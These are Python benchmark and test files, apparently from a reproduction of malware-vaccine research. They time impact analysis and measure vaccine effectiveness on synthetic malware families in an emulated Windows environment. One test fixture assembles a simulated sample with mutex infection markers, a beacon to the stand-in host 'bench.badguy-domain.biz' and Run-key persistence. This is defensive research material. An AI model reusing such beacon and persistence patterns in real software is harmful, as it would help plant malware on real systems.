    b.emit(f"    mov ecx, {UNPACK_ROUNDS}")
    loop = b.label("unpack")
    b.emit(
        "    mov eax, ecx",
        "    imul eax, 13",
        "    xor eax, 0x5a5a",
        "    add ebx, eax",
        "    dec ecx",
        f"    jnz {loop}",
    )
    infected = "infected"
    for i in (1, 2, 3):
        name = b.string(f"Global\\impact-bench-{i}")
        b.call("OpenMutexA", hex(MUTEX_ALL_ACCESS), "0", name)
        b.emit("    test eax, eax", f"    jnz {infected}")
        b.call("CreateMutexA", "0", "0", name)
    frag_beacon(b, "bench.badguy-domain.biz", rounds=4, payload="SCAN")
    frag_persist_run_key(b, "benchsvc", "c:\\windows\\system32\\bench.exe")
    b.emit("    halt")
    b.label(infected)
    frag_exit(b, 0)
    return b.build(family="bench", category="bench")


def _outcome_fingerprint(outcomes):
    return [
        (
            o.candidate.key,
            o.mechanism.value,
            o.immunization.value,
            sorted(e.value for e in o.effects),
            o.mutation_hits,
            o.mutated_run.trace.steps,
            [e.context_key() for e in o.mutated_run.trace.api_calls],
        )
        for o in outcomes
    ]


def test_snapshot_resume_speedup():
    program = _bench_sample()
    report = select_candidates(program)
    candidates = [
        c for c in report.candidates if c.influences_control_flow or c.had_failure
    ]
    assert len(candidates) >= 3, "bench sample must yield >=6 candidate-mechanisms"

    # Superblocks are held off for the legacy-vs-snapshot comparison: they
    # speed up full reruns (the long unpack preamble is exactly what they
    # compile), which would understate the *snapshot mechanism's* own win.
    # The combined number (both optimizations on) is recorded alongside.
    with obs.disabled(), vm_superblock.overridden(False):
        legacy_s, legacy = min_wall_seconds(
            lambda: ImpactAnalyzer(snapshot_resume=False).analyze_candidates(
                program, candidates, report.trace
            ),
            repeats=3,
        )
        snap_s, fast = min_wall_seconds(
            lambda: ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
                program, candidates, report.trace
            ),
            repeats=3,
        )
    with obs.disabled():
        combined_s, combined = min_wall_seconds(
            lambda: ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
                program, candidates, report.trace
            ),
            repeats=3,
        )

    assert _outcome_fingerprint(fast) == _outcome_fingerprint(legacy)
    assert _outcome_fingerprint(combined) == _outcome_fingerprint(legacy)
    speedup = legacy_s / snap_s
    assert speedup >= 2.0, f"snapshot-resume speedup {speedup:.2f}x < 2x"

    lines = [
        "Phase-II impact analysis: snapshot-resume vs full rerun",
        f"sample: {UNPACK_ROUNDS * 6:,}-step unpack preamble, "
        f"{len(candidates)} candidates x 2 mechanisms",
        f"full-rerun wall (superblocks off):      {legacy_s * 1e3:8.2f} ms",
        f"snapshot-resume wall (superblocks off): {snap_s * 1e3:8.2f} ms",
        f"snapshot-mechanism speedup:             {speedup:8.2f}x",
        f"snapshot + superblocks wall:            {combined_s * 1e3:8.2f} ms",
        f"combined speedup vs full rerun:         {legacy_s / combined_s:8.2f}x",
        "",
    ]
    test_snapshot_resume_speedup.lines = lines
    test_snapshot_resume_speedup.numbers = {
        "candidates": len(candidates),
        "legacy_seconds": legacy_s,
        "snapshot_seconds": snap_s,
        "speedup": speedup,
        "combined_seconds": combined_s,
        "combined_speedup": legacy_s / combined_s,
    }


def test_per_family_snapshot_speedup(family_analyses):
    """Snapshot-resume vs full rerun on the real corpus families.

    Three-way equivalence first — structured restore, the legacy pickle
    blob (``pickle_env_overridden(True)``), and the full rerun must yield
    identical outcomes — then the wall-clock claim: the structured-restore
    path beats full reruns by >=1.3x on at least two families (the crafted
    sample above pins >=2x; real families carry more API-call payload per
    step, so the floor is lower)."""
    from repro.core.snapshot import pickle_env_overridden

    results = {}
    with obs.disabled(), vm_superblock.overridden(False):
        for family, (program, _analysis) in sorted(family_analyses.items()):
            report = select_candidates(program)
            candidates = [
                c
                for c in report.candidates
                if c.influences_control_flow or c.had_failure
            ]
            if not candidates:
                continue
            legacy_s, legacy = min_wall_seconds(
                lambda: ImpactAnalyzer(snapshot_resume=False).analyze_candidates(
                    program, candidates, report.trace
                ),
                repeats=3,
            )
            snap_s, structured = min_wall_seconds(
                lambda: ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
                    program, candidates, report.trace
                ),
                repeats=3,
            )
            with pickle_env_overridden(True):
                blob = ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
                    program, candidates, report.trace
                )
            assert _outcome_fingerprint(structured) == _outcome_fingerprint(legacy)
            assert _outcome_fingerprint(blob) == _outcome_fingerprint(legacy)
            results[family] = {
                "legacy_seconds": legacy_s,
                "snapshot_seconds": snap_s,
                "speedup": legacy_s / snap_s,
            }

    assert results
    fast_enough = [f for f, r in results.items() if r["speedup"] >= 1.3]
    assert len(fast_enough) >= 2, {
        f: round(r["speedup"], 2) for f, r in results.items()
    }

    lines = ["Per-family snapshot-resume speedup (superblocks off, best of 3):"]
    for family, r in results.items():
        lines.append(
            f"  {family:<12} full rerun {r['legacy_seconds'] * 1e3:8.2f} ms"
            f"   resume {r['snapshot_seconds'] * 1e3:8.2f} ms"
            f"   {r['speedup']:5.2f}x"
        )
    lines.append("")
    test_per_family_snapshot_speedup.lines = lines
    test_per_family_snapshot_speedup.numbers = results


SPIN = """
    mov ecx, 60000
spin:
    mov eax, ecx
    imul eax, 17
    xor eax, 0x1234
    add edx, eax
    shr eax, 3
    dec ecx
    jnz spin
    halt
"""


def test_interpreter_fast_path():
    program = assemble(SPIN, name="spin")

    def run(force_slow: bool):
        env = SystemEnvironment()
        proc = env.spawn_process("b.exe")
        cpu = CPU(
            program,
            environment=env,
            process=proc,
            dispatcher=Dispatcher(env, proc),
            max_steps=600_000,
            record_instructions=False,
        )
        if force_slow:
            cpu._allow_fast = cpu._fast_mode = False
        started = time.perf_counter()
        cpu.run()
        elapsed = time.perf_counter() - started
        return elapsed, cpu.steps

    with obs.disabled():
        slow_s, (_, n_steps) = min_wall_seconds(lambda: run(True), repeats=3)
        fast_s, (_, fast_steps) = min_wall_seconds(lambda: run(False), repeats=3)
    assert n_steps == fast_steps  # both paths executed the same instructions
    speedup = slow_s / fast_s
    assert speedup >= 1.15, f"fast-path speedup {speedup:.2f}x < 1.15x"

    fast_rate = n_steps / fast_s / 1e6
    slow_rate = n_steps / slow_s / 1e6
    lines = [
        "Predecoded interpreter: untainted fast path vs recording path",
        f"workload: {n_steps:,} straight-line ALU steps",
        f"recording path:  {slow_rate:8.2f} Msteps/s",
        f"fast path:       {fast_rate:8.2f} Msteps/s",
        f"per-step speedup:{speedup:8.2f}x",
        "",
    ]
    test_interpreter_fast_path.lines = lines
    test_interpreter_fast_path.numbers = {
        "steps": n_steps,
        "slow_msteps_per_s": slow_rate,
        "fast_msteps_per_s": fast_rate,
        "speedup": speedup,
    }


def _analysis_fingerprint(analysis) -> dict:
    """Byte-identical view of a SampleAnalysis, modulo wall-clock spans,
    the flight journal, and the hot-path profile (all three record *how*
    the run executed by design — tier mix legitimately differs when
    superblocks are off)."""
    payload = serialize.analysis_to_dict(analysis)
    payload.pop("span", None)
    payload.pop("journal", None)
    payload.pop("profile", None)
    return payload


def test_write_artifacts(family_analyses):
    """Render impact.txt + the per-sample latency baseline (runs last).

    Per-family timing is best-of-3 with observability off (the committed
    baseline regenerates under the same protocol, so the regression gate
    compares like with like).  Each family is also analyzed once with
    superblocks disabled and the two SampleAnalysis payloads must be
    byte-identical — the tier-3 compiler is a pure optimization.
    """
    per_sample = {}
    per_sample_nosb = {}
    with obs.disabled():
        for family, (program, _analysis) in sorted(family_analyses.items()):
            seconds, analysis = min_wall_seconds(
                lambda: AutoVac().analyze(program), repeats=3
            )
            per_sample[family] = seconds
            nosb_seconds, nosb = min_wall_seconds(
                lambda: AutoVac(superblock_vm=False).analyze(program), repeats=3
            )
            per_sample_nosb[family] = nosb_seconds
            assert _analysis_fingerprint(analysis) == _analysis_fingerprint(nosb), (
                f"{family}: superblocks changed the analysis"
            )

    snap = getattr(test_snapshot_resume_speedup, "numbers", {})
    per_family_snap = getattr(test_per_family_snapshot_speedup, "numbers", {})
    interp = getattr(test_interpreter_fast_path, "numbers", {})
    lines = list(getattr(test_snapshot_resume_speedup, "lines", []))
    lines += list(getattr(test_per_family_snapshot_speedup, "lines", []))
    lines += list(getattr(test_interpreter_fast_path, "lines", []))
    lines.append("Per-sample end-to-end pipeline latency (best of 3, obs off):")
    for family, seconds in per_sample.items():
        lines.append(
            f"  {family:<12} {seconds * 1e3:8.2f} ms"
            f"   (superblocks off: {per_sample_nosb[family] * 1e3:8.2f} ms)"
        )
    write_artifact("impact.txt", "\n".join(lines) + "\n")

    write_artifact(
        "impact_baseline.json",
        json.dumps(
            {
                "snapshot_resume": snap,
                "snapshot_resume_per_family": per_family_snap,
                "interpreter": interp,
                "per_sample_seconds": per_sample,
                "per_sample_seconds_superblocks_off": per_sample_nosb,
            },
            indent=2,
            sort_keys=True,
        )
        + "\n",
    )

    # Attribution rider: one profiled analysis per family, outside the
    # timed section — a per_sample_seconds regression then comes with the
    # handler/tier/phase that moved.
    from repro.obs.prof import _self_cells, render_table

    # Benchmark-wide share of the environment snapshot/restore paths.  The
    # per-family tables below can't carry this: the smallest families run
    # for ~2ms total, so a fixed ~40µs restore is a big *percentage* there
    # while being noise in absolute terms — the honest gate (CI perf-smoke)
    # is the share across the whole benchmark.
    ENV_PATHS = (
        "snapshot;capture;env_snapshot",
        "snapshot;resume;env_restore",
        "snapshot;capture;env_pickle",
        "snapshot;resume;env_unpickle",
    )
    env_self = {path: 0.0 for path in ENV_PATHS}
    grand_self = 0.0

    # The rider measures *attribution*, not wall-clock (the timed sections
    # above keep GC on): a gen-2 collection pause (~150µs here) lands on
    # whichever profile node is active when the collector fires, and inside
    # a ~20µs restore it would swamp the node's self-time.  Collection is
    # deferred around each profiled analysis so self-times name the code
    # that ran, not the allocator's amortized debt.
    sections = ["Per-family hot paths (one profiled analysis each, GC deferred)"]
    for family, (program, _analysis) in sorted(family_analyses.items()):
        obs.prof.reset()
        gc.disable()
        try:
            with obs.profiled():
                profiled = AutoVac().analyze(program)
        finally:
            gc.enable()
            gc.collect()
        cells = _self_cells(profiled.profile)
        grand_self += sum(cell[1] for cell in cells.values())
        for path in ENV_PATHS:
            if path in cells:
                env_self[path] += cells[path][1]
        sections.append("")
        sections.append(f"[{family}]")
        sections.append(render_table(profiled.profile, top=10).rstrip("\n"))
    obs.prof.reset()

    sections.append("")
    sections.append("[aggregate]")
    sections.append("path                             self   share-of-benchmark-self")
    for path in ENV_PATHS:
        if env_self[path] > 0.0:
            share = 100.0 * env_self[path] / (grand_self or 1.0)
            sections.append(
                f"{path:<32} {env_self[path] * 1e6:7.1f}us  {share:5.2f}%"
            )
    write_artifact("impact_profile.txt", "\n".join(sections) + "\n")
