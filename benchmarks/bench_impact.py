"""Phase-II impact-analysis performance: snapshot-resume vs full rerun,
plus the predecoded interpreter fast path.

The dominant Phase-II cost is re-executing the sample once per candidate ×
mechanism; snapshot-resume checkpoints the guest at each candidate's first
interception site and replays only the divergent suffix.  This bench pins:

* **equivalence** — snapshot and legacy paths produce identical outcomes on
  a crafted sample whose compute preamble dwarfs its payload;
* **speedup** — ≥2× end-to-end on a sample with ≥6 candidate-mechanism runs
  (the paper-shaped case: long unpack loop, several infection markers);
* **interpreter** — the untainted fast path beats the recording interpreter
  by a healthy margin on straight-line compute (≥1.15× asserted; the real
  number lands in the artifact).

Artifacts: ``_artifacts/impact.txt`` (human-readable numbers) and
``_artifacts/impact_baseline.json`` (machine-readable per-sample latency
baseline for regression eyeballing).
"""

from __future__ import annotations

import json
import time

from repro import obs
from repro.core.candidate import select_candidates
from repro.core.impact import ImpactAnalyzer
from repro.core.pipeline import AutoVac
from repro.corpus import all_families
from repro.corpus.builder import (
    MUTEX_ALL_ACCESS,
    AsmBuilder,
    frag_beacon,
    frag_exit,
    frag_persist_run_key,
)
from repro.vm import CPU, assemble
from repro.winapi import Dispatcher
from repro.winenv import SystemEnvironment

from benchutil import min_wall_seconds, write_artifact

#: 6-instruction unpack loop body → 24k-step compute preamble.
UNPACK_ROUNDS = 4000


def _bench_sample():
    """Paper-shaped worst case for full reruns: a long unpacking loop, then
    three infection-marker checks (6 candidate-mechanism runs), then a
    beacon + persistence payload."""
    b = AsmBuilder("impact_bench")
    b.comment("unpack-style compute preamble")
    b.emit(f"    mov ecx, {UNPACK_ROUNDS}")
    loop = b.label("unpack")
    b.emit(
        "    mov eax, ecx",
        "    imul eax, 13",
        "    xor eax, 0x5a5a",
        "    add ebx, eax",
        "    dec ecx",
        f"    jnz {loop}",
    )
    infected = "infected"
    for i in (1, 2, 3):
        name = b.string(f"Global\\impact-bench-{i}")
        b.call("OpenMutexA", hex(MUTEX_ALL_ACCESS), "0", name)
        b.emit("    test eax, eax", f"    jnz {infected}")
        b.call("CreateMutexA", "0", "0", name)
    frag_beacon(b, "bench.badguy-domain.biz", rounds=4, payload="SCAN")
    frag_persist_run_key(b, "benchsvc", "c:\\windows\\system32\\bench.exe")
    b.emit("    halt")
    b.label(infected)
    frag_exit(b, 0)
    return b.build(family="bench", category="bench")


def _outcome_fingerprint(outcomes):
    return [
        (
            o.candidate.key,
            o.mechanism.value,
            o.immunization.value,
            sorted(e.value for e in o.effects),
            o.mutation_hits,
            o.mutated_run.trace.steps,
            [e.context_key() for e in o.mutated_run.trace.api_calls],
        )
        for o in outcomes
    ]


def test_snapshot_resume_speedup():
    program = _bench_sample()
    report = select_candidates(program)
    candidates = [
        c for c in report.candidates if c.influences_control_flow or c.had_failure
    ]
    assert len(candidates) >= 3, "bench sample must yield >=6 candidate-mechanisms"

    with obs.disabled():
        legacy_s, legacy = min_wall_seconds(
            lambda: ImpactAnalyzer(snapshot_resume=False).analyze_candidates(
                program, candidates, report.trace
            ),
            repeats=3,
        )
        snap_s, fast = min_wall_seconds(
            lambda: ImpactAnalyzer(snapshot_resume=True).analyze_candidates(
                program, candidates, report.trace
            ),
            repeats=3,
        )

    assert _outcome_fingerprint(fast) == _outcome_fingerprint(legacy)
    speedup = legacy_s / snap_s
    assert speedup >= 2.0, f"snapshot-resume speedup {speedup:.2f}x < 2x"

    lines = [
        "Phase-II impact analysis: snapshot-resume vs full rerun",
        f"sample: {UNPACK_ROUNDS * 6:,}-step unpack preamble, "
        f"{len(candidates)} candidates x 2 mechanisms",
        f"full-rerun wall:       {legacy_s * 1e3:8.2f} ms",
        f"snapshot-resume wall:  {snap_s * 1e3:8.2f} ms",
        f"speedup:               {speedup:8.2f}x",
        "",
    ]
    test_snapshot_resume_speedup.lines = lines
    test_snapshot_resume_speedup.numbers = {
        "candidates": len(candidates),
        "legacy_seconds": legacy_s,
        "snapshot_seconds": snap_s,
        "speedup": speedup,
    }


SPIN = """
    mov ecx, 60000
spin:
    mov eax, ecx
    imul eax, 17
    xor eax, 0x1234
    add edx, eax
    shr eax, 3
    dec ecx
    jnz spin
    halt
"""


def test_interpreter_fast_path():
    program = assemble(SPIN, name="spin")

    def run(force_slow: bool):
        env = SystemEnvironment()
        proc = env.spawn_process("b.exe")
        cpu = CPU(
            program,
            environment=env,
            process=proc,
            dispatcher=Dispatcher(env, proc),
            max_steps=600_000,
            record_instructions=False,
        )
        if force_slow:
            cpu._allow_fast = cpu._fast_mode = False
        started = time.perf_counter()
        cpu.run()
        elapsed = time.perf_counter() - started
        return elapsed, cpu.steps

    with obs.disabled():
        slow_s, (_, n_steps) = min_wall_seconds(lambda: run(True), repeats=3)
        fast_s, (_, fast_steps) = min_wall_seconds(lambda: run(False), repeats=3)
    assert n_steps == fast_steps  # both paths executed the same instructions
    speedup = slow_s / fast_s
    assert speedup >= 1.15, f"fast-path speedup {speedup:.2f}x < 1.15x"

    fast_rate = n_steps / fast_s / 1e6
    slow_rate = n_steps / slow_s / 1e6
    lines = [
        "Predecoded interpreter: untainted fast path vs recording path",
        f"workload: {n_steps:,} straight-line ALU steps",
        f"recording path:  {slow_rate:8.2f} Msteps/s",
        f"fast path:       {fast_rate:8.2f} Msteps/s",
        f"per-step speedup:{speedup:8.2f}x",
        "",
    ]
    test_interpreter_fast_path.lines = lines
    test_interpreter_fast_path.numbers = {
        "steps": n_steps,
        "slow_msteps_per_s": slow_rate,
        "fast_msteps_per_s": fast_rate,
        "speedup": speedup,
    }


def test_write_artifacts(family_analyses):
    """Render impact.txt + the per-sample latency baseline (runs last)."""
    per_sample = {}
    for family, (program, _analysis) in sorted(family_analyses.items()):
        started = time.perf_counter()
        AutoVac().analyze(program)
        per_sample[family] = time.perf_counter() - started

    snap = getattr(test_snapshot_resume_speedup, "numbers", {})
    interp = getattr(test_interpreter_fast_path, "numbers", {})
    lines = list(getattr(test_snapshot_resume_speedup, "lines", []))
    lines += list(getattr(test_interpreter_fast_path, "lines", []))
    lines.append("Per-sample end-to-end pipeline latency (snapshot-resume on):")
    for family, seconds in per_sample.items():
        lines.append(f"  {family:<12} {seconds * 1e3:8.2f} ms")
    write_artifact("impact.txt", "\n".join(lines) + "\n")

    write_artifact(
        "impact_baseline.json",
        json.dumps(
            {
                "snapshot_resume": snap,
                "interpreter": interp,
                "per_sample_seconds": per_sample,
            },
            indent=2,
            sort_keys=True,
        )
        + "\n",
    )
