"""Figure 4 — Behavior Decreasing Ratio distribution.

Paper: full-immunization vaccines reach the highest BDR (short of 100%
because pre-exit calls still run); every partial vaccine still cuts at least
24% of the malware's system-call activity.
"""

import pytest

from repro.core import measure_bdr

from benchutil import write_artifact


@pytest.fixture(scope="module")
def bdr_by_type(family_analyses):
    """BDR measured per (family, vaccine), grouped by immunization class."""
    grouped = {}
    for family, (program, analysis) in family_analyses.items():
        for vaccine in analysis.vaccines:
            result = measure_bdr(program, [vaccine])
            grouped.setdefault(vaccine.immunization.value, []).append(
                (family, vaccine.identifier, result.bdr)
            )
    return grouped


@pytest.mark.benchmark(group="fig4")
def test_fig4_bdr_distribution(benchmark, bdr_by_type, family_analyses):
    lines = ["Figure 4 reproduction — BDR by immunization type"]
    for imm, rows in sorted(bdr_by_type.items()):
        values = [bdr for _, _, bdr in rows]
        lines.append(f"{imm}: n={len(values)} min={min(values):.2f} "
                     f"max={max(values):.2f} mean={sum(values) / len(values):.2f}")
        for family, ident, bdr in rows:
            lines.append(f"    {family:10s} {ident:45s} {bdr:6.2f}")
    write_artifact("fig4.txt", "\n".join(lines) + "\n")

    full = [b for _, _, b in bdr_by_type.get("full", [])]
    partial = [b for key, rows in bdr_by_type.items() if key != "full"
               for _, _, b in rows]
    assert full, "no full-immunization vaccines measured"

    # Full immunization: strongest reduction, but below 100% (initial calls
    # before exit still occur) — both facts from the paper.
    assert min(full) > 0.5
    assert all(b < 1.0 for b in full)
    # Partial immunization always cuts something, and the strongest partial
    # vaccines reach the paper's >=24% floor.  (Our kernel-injection
    # vaccines sit below the paper's worst case: the driver-install sequence
    # is a small share of our samples' native calls — recorded honestly in
    # EXPERIMENTS.md.)
    if partial:
        assert min(partial) > 0.0
        assert max(partial) >= 0.24
        assert max(full) >= max(partial)

    program, analysis = family_analyses["zeus"]
    benchmark(lambda: measure_bdr(program, analysis.vaccines))


def test_fig4_longer_budget_increases_bdr(family_analyses):
    """Paper: 'BDR will certainly increase if we keep running the malware
    sample in a longer time period' — more beacon loops accumulate on the
    normal run while the vaccinated run stays terminated."""
    program, analysis = family_analyses["zeus"]
    short = measure_bdr(program, analysis.vaccines, max_steps=20_000)
    long = measure_bdr(program, analysis.vaccines, max_steps=500_000)
    assert long.bdr >= short.bdr - 0.05
