"""Table VII — vaccine effectiveness on new variants of high-profile
families.

Paper: 17 vaccines over 6 families, tested on 5 fresh variants each; 70 of
85 ideal (vaccine x variant) cases verified (82%); Conficker/Qakbot/IBank at
100%, Zeus 77%, Sality 80%, PoisonIvy 67% (some variants renamed or dropped
identifiers).
"""

import pytest

from repro import SystemEnvironment, VaccinePackage, deploy
from repro.core import run_sample
from repro.corpus import TABLE_VII_EXPECTED, build_variant_set

from benchutil import POPULATION_CACHE, POPULATION_JOBS, write_artifact

VARIANTS = 5


def _vaccine_effective(program, vaccine) -> bool:
    """Does this vaccine measurably affect this variant?  Mirrors the paper's
    manual verification via execution differences."""
    clean = run_sample(program, record_instructions=False)
    host = SystemEnvironment()
    deploy(VaccinePackage(vaccines=[vaccine]), host)
    vaccinated = run_sample(program, environment=host, record_instructions=False)
    if vaccinated.trace.terminated and not clean.trace.terminated:
        return True
    return len(vaccinated.trace.api_calls) < len(clean.trace.api_calls)


@pytest.fixture(scope="module")
def variant_matrix(family_analyses):
    """family -> (vaccine_count, verified, ideal)."""
    outcome = {}
    for family, (base, analysis) in family_analyses.items():
        vs = build_variant_set(family, count=VARIANTS)
        verified = 0
        for variant in vs.variants:
            for vaccine in analysis.vaccines:
                if _vaccine_effective(variant, vaccine):
                    verified += 1
        ideal = len(analysis.vaccines) * VARIANTS
        outcome[family] = (len(analysis.vaccines), verified, ideal)
    return outcome


@pytest.mark.benchmark(group="table7")
def test_table7_variant_effectiveness(benchmark, variant_matrix, family_analyses):
    lines = ["Table VII reproduction — vaccines vs 5 new variants per family",
             f"{'family':12s}{'vaccines':>9s}{'ideal':>7s}{'verified':>9s}{'ratio':>7s}{'paper':>7s}"]
    total_ideal = total_verified = 0
    for family, (n_vacc, verified, ideal) in sorted(variant_matrix.items()):
        ratio = verified / ideal if ideal else 0.0
        paper = TABLE_VII_EXPECTED[family]["ratio"]
        lines.append(f"{family:12s}{n_vacc:9d}{ideal:7d}{verified:9d}{ratio:7.0%}{paper:7.0%}")
        total_ideal += ideal
        total_verified += verified
    overall = total_verified / total_ideal
    lines.append(f"{'TOTAL':12s}{'':9s}{total_ideal:7d}{total_verified:9d}{overall:7.0%}{0.82:7.0%}")
    lines.append(f"(family analyses via executor: jobs={POPULATION_JOBS}, "
                 f"cache={'on' if POPULATION_CACHE else 'off'})")
    write_artifact("table7.txt", "\n".join(lines) + "\n")

    # Shape: overall coverage is high but below 100% (paper: 82%).
    assert 0.6 <= overall < 1.0
    # Families whose variants keep their identifiers stay at 100%.
    for family in ("conficker", "qakbot", "ibank"):
        n, verified, ideal = variant_matrix[family]
        assert verified == ideal, family
    # Families with renamed identifiers fall short of 100%.
    assert variant_matrix["zeus"][1] < variant_matrix["zeus"][2]
    assert variant_matrix["poisonivy"][1] < variant_matrix["poisonivy"][2]

    base, analysis = family_analyses["zeus"]
    variant = build_variant_set("zeus", count=1).variants[0]
    benchmark(lambda: _vaccine_effective(variant, analysis.vaccines[0]))


def test_table7_combination_covers_gaps(family_analyses):
    """Paper: 'even some may not be effective for all variants, the
    combination of these vaccines can still achieve satisfiable results'."""
    base, analysis = family_analyses["zeus"]
    vs = build_variant_set("zeus", count=VARIANTS)
    covered = 0
    for variant in vs.variants:
        host = SystemEnvironment()
        deploy(VaccinePackage(vaccines=analysis.vaccines), host)
        clean = run_sample(variant, record_instructions=False)
        vaccinated = run_sample(variant, environment=host, record_instructions=False)
        if (vaccinated.trace.terminated and not clean.trace.terminated) or \
                len(vaccinated.trace.api_calls) < len(clean.trace.api_calls):
            covered += 1
    assert covered >= VARIANTS - 1  # the combined pack covers nearly all
