"""§VI-F — performance overhead.

Paper numbers (their hardware): ~789 s full analysis per sample, ~214 s
backward slicing per identifier, 2-3 min impact verification per case;
deployment: 373 static vaccines installed in 34 s total, slice vaccines
~25.7 s each, daemon hooking <4.5% runtime overhead for 119 partial-static
vaccines.  We measure our analogues and verify the *relations*: generation
cost >> deployment cost; static injection ~ negligible; daemon overhead a
small multiplier.
"""

import time

import pytest

from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy
from repro.core import run_sample, select_candidates
from repro.core.determinism import analyze_determinism
from repro.corpus import benign_suite, build_family
from repro.delivery import DirectInjector
from repro.taint.backward import backward_slice
from repro.taint.replay import replay_slice

from benchutil import write_artifact


@pytest.mark.benchmark(group="perf-generation")
def test_perf_full_pipeline_per_sample(benchmark):
    """Vaccine generation is a one-time analysis cost (paper: ~789 s)."""
    result = benchmark(lambda: AutoVac().analyze(build_family("zeus")))
    assert result.vaccines


@pytest.mark.benchmark(group="perf-generation")
def test_perf_backward_slicing_per_identifier(benchmark):
    """Backward slicing cost per identifier (paper: ~214 s)."""
    program = build_family("conficker")
    report = select_candidates(program)
    event = next(e for e in report.trace.api_calls
                 if e.api == "OpenMutexA" and e.identifier)

    benchmark(lambda: backward_slice(report.trace, event, memory=report.run.cpu.memory))


@pytest.mark.benchmark(group="perf-generation")
def test_perf_impact_verification_per_case(benchmark):
    """One mutated run + alignment (paper: 2-3 min per case)."""
    from repro.core import Mechanism
    from repro.core.impact import ImpactAnalyzer

    program = build_family("zeus")
    report = select_candidates(program)
    cand = next(c for c in report.candidates if c.influences_control_flow)
    analyzer = ImpactAnalyzer()
    benchmark(lambda: analyzer.analyze_mechanism(
        program, cand, report.trace, Mechanism.SIMULATE_PRESENCE))


@pytest.mark.benchmark(group="perf-deploy")
def test_perf_static_injection(benchmark, family_analyses):
    """Static vaccine installation (paper: 373 vaccines in 34 s)."""
    from repro.core import DeliveryKind

    vaccines = [v for _, a in family_analyses.values() for v in a.vaccines
                if v.delivery is DeliveryKind.DIRECT_INJECTION]

    def install_all():
        injector = DirectInjector(SystemEnvironment())
        injector.inject_all(vaccines)
        return injector

    injector = benchmark(install_all)
    assert len(injector.records) == len(vaccines)


@pytest.mark.benchmark(group="perf-deploy")
def test_perf_slice_replay(benchmark, family_analyses):
    """Algorithm-deterministic vaccine deployment (paper: ~25.7 s each)."""
    from repro.core import IdentifierKind

    _, analysis = family_analyses["conficker"]
    vaccine = next(v for v in analysis.vaccines
                   if v.identifier_kind is IdentifierKind.ALGORITHM_DETERMINISTIC)
    host = SystemEnvironment()
    benchmark(lambda: replay_slice(vaccine.slice, host.clone()))


def test_perf_daemon_hook_overhead(family_analyses, benign_programs):
    """Daemon interception overhead on benign workloads (paper: <4.5% for
    119 partial-static vaccines; hooking cost dominates and stays stable)."""
    from repro.core import DeliveryKind

    vaccines = [v for _, a in family_analyses.values() for v in a.vaccines
                if v.delivery is DeliveryKind.DAEMON]
    clean_env = SystemEnvironment()
    vaccinated = SystemEnvironment()
    deploy(VaccinePackage(vaccines=vaccines), vaccinated)

    def workload(env):
        started = time.perf_counter()
        for _ in range(8):
            for program in benign_programs:
                run_sample(program, environment=env, record_instructions=False)
        return time.perf_counter() - started

    workload(clean_env)  # warm-up
    base = min(workload(clean_env) for _ in range(3))
    hooked = min(workload(vaccinated) for _ in range(3))
    overhead = hooked / base - 1.0
    write_artifact(
        "perf_daemon.txt",
        "Daemon hook overhead (paper: <4.5% for 119 partial-static vaccines)\n"
        f"daemon vaccines: {len(vaccines)}\n"
        f"benign workload clean:     {base * 1000:.1f} ms\n"
        f"benign workload vaccinated:{hooked * 1000:.1f} ms\n"
        f"overhead: {overhead:+.1%}\n",
    )
    # Small, bounded overhead (generous bound for timer noise).
    assert overhead < 0.60
