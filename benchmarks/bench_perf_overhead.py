"""§VI-F — performance overhead.

Paper numbers (their hardware): ~789 s full analysis per sample, ~214 s
backward slicing per identifier, 2-3 min impact verification per case;
deployment: 373 static vaccines installed in 34 s total, slice vaccines
~25.7 s each, daemon hooking <4.5% runtime overhead for 119 partial-static
vaccines.  We measure our analogues and verify the *relations*: generation
cost >> deployment cost; static injection ~ negligible; daemon overhead a
small multiplier.
"""

import time

import pytest

from repro import AutoVac, SystemEnvironment, VaccinePackage, deploy, obs
from repro.core import run_sample, select_candidates
from repro.core.determinism import analyze_determinism
from repro.corpus import benign_suite, build_family
from repro.delivery import DirectInjector
from repro.taint.backward import backward_slice
from repro.taint.replay import replay_slice

from benchutil import min_wall_seconds, write_artifact


@pytest.mark.benchmark(group="perf-generation")
def test_perf_full_pipeline_per_sample(benchmark):
    """Vaccine generation is a one-time analysis cost (paper: ~789 s).

    The per-phase breakdown is pulled from the pipeline's own span tree
    (``repro.obs``) instead of re-timing each phase here."""
    result = benchmark(lambda: AutoVac().analyze(build_family("zeus")))
    assert result.vaccines
    breakdown = "".join(
        f"{phase:>14s}: {seconds * 1000:8.2f} ms\n"
        for phase, seconds in result.timings.items()
    )
    write_artifact(
        "perf_phases.txt",
        "Per-phase wall time for one zeus analysis (span-derived, §VI-F)\n"
        + breakdown,
    )


@pytest.mark.benchmark(group="perf-generation")
def test_perf_backward_slicing_per_identifier(benchmark):
    """Backward slicing cost per identifier (paper: ~214 s)."""
    program = build_family("conficker")
    report = select_candidates(program)
    event = next(e for e in report.trace.api_calls
                 if e.api == "OpenMutexA" and e.identifier)

    benchmark(lambda: backward_slice(report.trace, event, memory=report.run.cpu.memory))


@pytest.mark.benchmark(group="perf-generation")
def test_perf_impact_verification_per_case(benchmark):
    """One mutated run + alignment (paper: 2-3 min per case)."""
    from repro.core import Mechanism
    from repro.core.impact import ImpactAnalyzer

    program = build_family("zeus")
    report = select_candidates(program)
    cand = next(c for c in report.candidates if c.influences_control_flow)
    analyzer = ImpactAnalyzer()
    benchmark(lambda: analyzer.analyze_mechanism(
        program, cand, report.trace, Mechanism.SIMULATE_PRESENCE))


@pytest.mark.benchmark(group="perf-deploy")
def test_perf_static_injection(benchmark, family_analyses):
    """Static vaccine installation (paper: 373 vaccines in 34 s)."""
    from repro.core import DeliveryKind

    vaccines = [v for _, a in family_analyses.values() for v in a.vaccines
                if v.delivery is DeliveryKind.DIRECT_INJECTION]

    def install_all():
        injector = DirectInjector(SystemEnvironment())
        injector.inject_all(vaccines)
        return injector

    injector = benchmark(install_all)
    assert len(injector.records) == len(vaccines)


@pytest.mark.benchmark(group="perf-deploy")
def test_perf_slice_replay(benchmark, family_analyses):
    """Algorithm-deterministic vaccine deployment (paper: ~25.7 s each)."""
    from repro.core import IdentifierKind

    _, analysis = family_analyses["conficker"]
    vaccine = next(v for v in analysis.vaccines
                   if v.identifier_kind is IdentifierKind.ALGORITHM_DETERMINISTIC)
    host = SystemEnvironment()
